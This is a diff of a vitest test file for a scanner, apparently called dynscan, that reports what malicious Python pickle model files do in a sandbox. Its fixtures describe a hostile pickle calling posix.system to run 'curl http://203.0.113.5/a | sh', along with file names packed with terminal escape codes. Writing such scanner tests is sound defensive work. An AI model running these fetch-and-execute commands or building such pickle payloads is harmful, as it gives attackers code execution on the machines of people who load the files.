@@ -3,74 +3,104 @@ import { describe, expect, it } from 'vitest';
 import { makeDocument } from '../../src/report/json.js';
 import { drawProcesses } from '../../src/report/process-lines.js';
 import type { ProcessNode, ScanReport } from '../../src/core/schema.js';
-import { formatBytes, formatSeconds, formatText } from '../../src/report/text.js';
-import { finding, HOSTILE, inconclusive, malicious, ONE_CRITICAL, RAW_CONTROL, scan } from './samples.js';
+import { formatBytes, formatSeconds } from '../../src/report/terminal.js';
+import { formatText, type TextOptions } from '../../src/report/text.js';
+import { finding, HOSTILE, inconclusive, malicious, RAW_CONTROL, scan } from './samples.js';
 
 function show(scans: ScanReport[], color = false, width = 80): string {
   return formatText(makeDocument(scans), { color, width });
 }
 
-it('shows a malicious model with everything a person needs to judge it', () => {
-  const report = malicious({
-    findings: [
-      finding({
-        rule: 'DYN-INFO',
-        severity: 'info',
-        title: 'Slept',
-        explanation: 'PID 1 slept for 2 s.',
-        evidence: [],
-      }),
-      finding({
-        count: 3,
-        cause: {
-          pickle: { global: 'posix.system', offset: 14 },
-          frames: [{ file: '/usr/lib/python3.13/pickle.py', line: 1254, function: 'load_reduce' }],
-        },
-      }),
-    ],
-    processes: [
-      { pid: 1, thread: false, argv: ['python3', '/runner.py'], exitCode: 0 },
-      { pid: 27, parent: 1, thread: true, argv: [] },
-      { pid: 28, parent: 1, thread: false, argv: ['sh', '-c', 'id > /tmp/x'], exitCode: 0 },
-      { pid: 29, parent: 28, thread: false, argv: ['id'], signal: 'SIGKILL' },
-      { pid: 30, parent: 1, thread: false, argv: [], exitCode: 3 },
-    ],
-  });
-  expect(show([report])).toBe(`MALICIOUS  models/iris.pkl
-  ${ONE_CRITICAL}
-  format    Python pickle, 2.0 KiB
-  sha256    ${'ab'.repeat(32)}
-  object    sklearn.linear_model.LogisticRegression
+function detailed(scans: ScanReport[]): string {
+  return formatText(makeDocument(scans), { color: false, width: 80, details: true });
+}
 
-  CRITICAL  Starts a shell  DYN-EXEC-SHELL
-    PID 28 runs /bin/sh -c id. (3 times) [while loading]
-    evidence  trace line 120: execve("/bin/sh", ["sh", "-c", "id"]) = 0
-    cause     pickle global posix.system at byte 14
-    called by load_reduce (/usr/lib/python3.13/pickle.py:1254)
-    advice    Do not load this file.
-    ATT&CK    T1059.004
+const FETCHES = malicious({
+  model: { path: 'models/a_evil.pkl', format: 'pickle', size: 101, sha256: 'ab'.repeat(32) },
+  findings: [
+    finding({
+      rule: 'STATIC-PICKLE-EXEC',
+      engine: 'static',
+      title: 'The file starts a program when it is loaded',
+      evidence: [{ text: 'asks for posix.system', offset: 47 }],
+      cause: { pickle: { global: 'posix.system', offset: 47 } },
+    }),
+    finding({
+      rule: 'DYN-EXEC-FETCH',
+      story: 'posix.system at byte 47',
+      subject: "sh -c 'curl http://203.0.113.5/a | sh'",
+      facts: { argv: ['sh', '-c', 'curl http://203.0.113.5/a | sh'] },
+      evidence: [{ text: 'execve(…)', pid: 28, time: 0.13, line: 497 }],
+      advice: 'Do not load it; ask its author for SafeTensors.',
+    }),
+    finding({
+      rule: 'DYN-EXEC-FETCH',
+      story: 'posix.system at byte 47',
+      subject: 'curl http://203.0.113.5/a',
+      facts: { argv: ['curl', 'http://203.0.113.5/a'] },
+      evidence: [{ text: 'execve(…)', pid: 29, time: 0.16, line: 650 }],
+    }),
+    finding({ rule: 'DYN-INFO', severity: 'info', title: 'Slept', evidence: [] }),
+  ],
+  processes: [
+    { pid: 1, thread: false, argv: ['python3', '/runner.py'], start: 0 },
+    { pid: 28, parent: 1, thread: false, argv: ['sh', '-c', 'curl http://203.0.113.5/a | sh'], start: 0.13 },
+    { pid: 29, parent: 28, thread: false, argv: ['curl', 'http://203.0.113.5/a'], start: 0.16 },
+    { pid: 30, parent: 28, thread: false, argv: ['sh'], start: 0.19 },
+  ],
+  conversations: [
+    {
+      protocol: 'HTTP',
+      address: '203.0.113.5',
+      port: 80,
+      pid: 29,
+      request: { line: 'GET /a HTTP/1.1', headers: [] },
+      sent: '',
+      received: '',
+      bytesSent: 76,
+      bytesReceived: 144,
+      result: 'The sandbox answered in place of the network.',
+    },
+  ],
+});
 
-  INFO      Slept  DYN-INFO
-    PID 1 slept for 2 s. [while loading]
-    advice    Do not load this file.
-    ATT&CK    T1059.004
+it('tells what a hostile model does in one sentence and a few lines, each act once', () => {
+  expect(show([FETCHES])).toBe(`✖ MALICIOUS  models/a_evil.pkl                          Python pickle, 101 bytes
+  Starts a shell that downloads a program and runs it when it is loaded.
 
-  Processes
-    1  python3 /runner.py  (1 thread)
-    ├─ 28  sh -c 'id > /tmp/x'
-    │  └─ 29  id  (killed by SIGKILL)
-    └─ 30  started no program of its own  (exit 3)
+    0.13 s  sh -c 'curl http://203.0.113.5/a | sh'
+    0.16 s  ├ curl → 203.0.113.5:80  GET /a  (the sandbox answered)
+    0.19 s  └ sh   runs what came back
+    cause     posix.system at byte 47
 
-  static completed, dynamic completed, 1,204 trace lines, 4 processes, 1.9 s
+  critical  STATIC-PICKLE-EXEC  posix.system                      byte 47
+  critical  DYN-EXEC-FETCH      sh -c 'curl http://203.0.113.5/…  trace 497, 650
+  → Do not load this file.
+
+details: --details · one rule: dynscan show STATIC-PICKLE-EXEC · page: --format
+html
 `);
 });
 
-it('shows of a Python error what it was and where', () => {
-  expect(show([inconclusive()])).toContain(`INCONCLUSIVE  models/iris.pkl
+it('keeps hash, output, evidence, the whole process tree and ATT&CK for --details', () => {
+  const apart = [/sha256 +abab/, /python3 \/runner\.py/, /T1059\.004/, /trace line 497: execve/];
+  for (const detail of apart) {
+    expect(show([FETCHES])).not.toMatch(detail);
+    expect(detailed([FETCHES])).toMatch(detail);
+  }
+});
+
+it('says of a harmless model one line', () => {
+  expect(show([scan()])).toBe('✔ clean  models/iris.pkl  nothing found, read and run\n');
+});
+
+it('says of a model that was not seen why, and what that means', () => {
+  expect(show([inconclusive()])).toBe(`? NOT SEEN  models/iris.pkl                               Python pickle, 2.0 KiB
+  Could not be loaded (ValueError: no), so not all that it does was seen.
   Loading the model raised ValueError: no, so what the model does after that was
   not seen.
 `);
-  expect(show([inconclusive()])).toContain(`
+  expect(detailed([inconclusive()])).toContain(`
   error     ValueError: no
   in        load (/usr/lib/python3.13/pickle.py:1254)
 `);
@@ -80,13 +110,76 @@ it('says which image was made for the model, and why', () => {
   const why = ['the project has Python 3.11 (uv.lock)'];
   const variant = { python: '3.11', packages: ['scikit-learn==1.3.*'], why };
   const sandbox = { image: 'dynscan-sandbox:core-1', engine: 'Docker', skippedSleep: 0, variant };
-  expect(show([scan({ sandbox })])).toContain(
+  expect(detailed([scan({ sandbox })])).toContain(
     '\n  run with  Python 3.11, scikit-learn==1.3.*: the project has Python 3.11\n            (uv.lock)\n',
   );
 });
 
-it('ends with a count of verdicts when there are several models', () => {
-  expect(show([scan(), malicious(), scan()]).trimEnd().split('\n').at(-1)).toBe('3 models: 1 malicious, 2 clean');
+describe('many models', () => {
+  const named = (path: string, report: ScanReport): ScanReport => ({
+    ...report,
+    model: { ...report.model, path: `/w/models/${path}` },
+  });
+  const behind = (offset: number): ScanReport =>
+    scan({
+      verdict: 'inconclusive',
+      reasons: [`1 byte after the end at byte ${offset} is no pickle.`],
+      coverage: {
+        gaps: [{ kind: 'static', text: `1 byte after the end at byte ${offset} is no pickle.` }],
+        ifClean: '',
+      },
+    });
+  const needs = scan({
+    verdict: 'inconclusive',
+    reasons: ['The sandbox image lacks a module.'],
+    load: { outcome: 'missing-dependency', missing: 'mymodel' },
+  });
+  const document = makeDocument(
+    [
+      named('z.pkl', scan()),
+      named('net.pt', needs),
+      ...Array.from({ length: 36 }, (_, n) => named(`p${n}.pkl`, behind(n))),
+      named('a_evil.pkl', FETCHES),
+    ],
+    { leftOut: [{ path: '/w/models/locked', reason: 'unreadable', text: 'It cannot be opened.' }] },
+  );
+  const options: TextOptions = {
+    color: false,
+    width: 80,
+    nameOf: (path) => path.replace('/w/models/', ''),
+    folder: 'models/',
+    seconds: 192,
+    exitCode: 1,
+  };
+
+  it('are a table, the worst first and equal reasons folded, and only the hostile one is told', () => {
+    const lines = formatText(document, options).split('\n');
+    expect(lines.slice(0, 9)).toEqual([
+      'dynscan 0.0.0-source · 39 models in models/ · read, not run · 192 s',
+      '',
+      ' ✖ malicious      1  a_evil.pkl  starts a shell that downloads a program and',
+      '                                 runs it',
+      ' ? not seen      37  net.pt     needs mymodel',
+      '                     36 models  1 byte after the end at byte … is no pickle',
+      '                                --all lists them',
+      ' ✔ clean          1',
+      ' – left out       1  locked (could not be opened)',
+    ]);
+    expect(lines.filter((line) => /^[✖!?✔] [A-Z]/.test(line))).toHaveLength(1);
+    expect(lines).toContain('1 malicious, 37 not seen, 1 clean, 1 left out, so the whole is not seen · exit 1');
+  });
+
+  it('are all listed with --all', () => {
+    const text = formatText(document, { ...options, all: true });
+    for (let n = 0; n < 36; n++) expect(text).toContain(` p${n}.pkl `);
+    expect(text).toContain('z.pkl');
+  });
+
+  it('hide no suppression', () => {
+    const suppression = { rule: 'DYN-EXEC-SHELL', sha256: 'ab'.repeat(32), reason: 'our own build step', by: 'mara' };
+    const report = scan({ suppressed: [{ finding: finding(), suppression }] });
+    expect(show([scan(), report])).toContain('Suppressed by mara: our own build step');
+  });
 });
 
 describe('whatever a model is called, prints or does', () => {
@@ -141,6 +234,7 @@ describe('whatever a model is called, prints or does', () => {
     const text = show([hostile, scan()]);
     expect(text).not.toMatch(RAW_CONTROL);
     expect(text).toContain('MALICIOUS  dir/a\\x1b[31m\\x9b2J\\u{202e}gnp.exe\\n\\u{200b}\\u{e0041}\\r\\x07z');
+    expect(detailed([hostile, scan()])).not.toMatch(RAW_CONTROL);
   });
 
   it('adds no escape sequence to those that colour the report', () => {
@@ -165,7 +259,7 @@ describe('whatever a model is called, prints or does', () => {
   });
 });
 
-it('keeps forty findings readable: grouped by rule, worst first, the rest counted', () => {
+it('keeps forty findings readable: a line for each rule, worst first', () => {
   const many = malicious({
     findings: [
       ...Array.from({ length: 10 }, (_, n) =>
@@ -175,30 +269,24 @@ it('keeps forty findings readable: grouped by rule, worst first, the rest counte
     ],
   });
   const lines = show([many]).split('\n');
-  const headings = lines.filter((line) => /^ {2}(CRITICAL|LOW)/.test(line));
-  expect(headings).toEqual([
-    '  CRITICAL  Starts a shell  DYN-EXEC-SHELL  (30 findings)',
-    '  LOW       Little  DYN-LOW  (10 findings)',
+  expect(lines.filter((line) => /^ {2}(critical|low)/.test(line)).map((line) => line.trim().split(/ +/)[1])).toEqual([
+    'DYN-EXEC-SHELL',
+    'DYN-LOW',
   ]);
-  expect(lines.filter((line) => line.includes('advice'))).toHaveLength(2);
-  expect(lines).toContain('    - PID 12 runs a shell. [while loading]');
-  expect(lines).toContain('    … and 17 more of this rule; the JSON report has them all.');
-  expect(lines.length).toBeLessThan(60);
-  const all = formatText(makeDocument([many]), { color: false, width: 80, verbose: true }).split('\n');
+  expect(lines.length).toBeLessThan(14);
+  const all = detailed([many]).split('\n');
   expect(all.filter((line) => /PID \d+ runs a shell\. \[while loading\]/.test(line))).toHaveLength(30);
   expect(all.join('\n')).not.toContain('the JSON report has them all');
 });
 
-it('shows all evidence and what took how long when asked to be verbose', () => {
+it('shows all evidence and what took how long in the details', () => {
   const evidence = Array.from({ length: 5 }, (_, line) => ({ line: line + 1, text: `execve("/bin/sh${line}")` }));
   const report = malicious({ findings: [finding({ evidence })], durations: { static: 0.01, run: 1.5, total: 1.6 } });
-  const brief = show([report]);
-  expect(brief).toContain('execve("/bin/sh0")  (4 more)');
-  expect(brief).not.toContain('/bin/sh4');
-  const verbose = formatText(makeDocument([report]), { color: false, width: 80, verbose: true });
-  for (const { text } of evidence) expect(verbose).toContain(text);
-  expect(verbose).not.toContain('more)');
-  expect(verbose).toContain('static 0.01 s, run 1.50 s, total 1.60 s');
+  expect(show([report])).not.toContain('/bin/sh0');
+  const all = detailed([report]);
+  for (const { text } of evidence) expect(all).toContain(text);
+  expect(all).not.toContain('more)');
+  expect(all).toContain('static 0.01 s, run 1.50 s, total 1.60 s');
 });
 
 describe('a process tree', () => {
